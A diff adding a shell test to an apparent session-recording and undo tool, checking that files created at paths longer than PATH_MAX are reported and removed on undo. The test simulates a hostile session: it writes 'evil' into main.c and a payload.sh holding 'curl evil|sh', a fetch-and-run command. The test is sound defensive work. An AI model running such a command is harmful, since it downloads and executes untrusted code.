@@ -404,6 +404,32 @@ ls: cannot access 'newempty': No such file or directory"
 	[ "$got" = "$want" ] && ok || bad "empty dirs: after undo: $got: $out"
 }
 
+# A file at a path longer than PATH_MAX (issue 14 finding 4): git cannot
+# take it, so the end of the session and diff say so, naming its top dir,
+# and undo removes that dir (made in the session) whole.
+too_long() {
+	fresh
+	jrun -- /usr/bin/python3 -c '
+import os
+open("main.c", "a").write("evil\n")
+for i in range(25):
+    os.mkdir("d" * 200); os.chdir("d" * 200)
+open("payload.sh", "w").write("curl evil|sh\n")'
+	top=$(printf 'd%.0s' $(seq 200))
+	case $OUT in
+	*"paths longer than git can take"*"under $top:"*) ok ;;
+	*) bad "too long: the end of the session does not say so: $OUT" ;;
+	esac
+	out=$("$AMX" diff last 2>&1)
+	case $out in
+	*"paths longer than git can take"*"under $top:"*) ok ;;
+	*) bad "too long: diff does not say so: $out" ;;
+	esac
+	out=$("$AMX" undo last 2>&1)
+	[ ! -e "$P/$top" ] && [ "$(cat "$P/main.c")" = "int main;" ] && ok ||
+	    bad "too long: undo left $(ls "$P"): $out"
+}
+
 checks() {
 	objects_symlinked
 	reflog_symlinked
@@ -414,6 +440,7 @@ checks() {
 	locked
 	mode_gaps
 	empty_dirs
+	too_long
 	frozen_rules
 	frozen_kept
 	planted
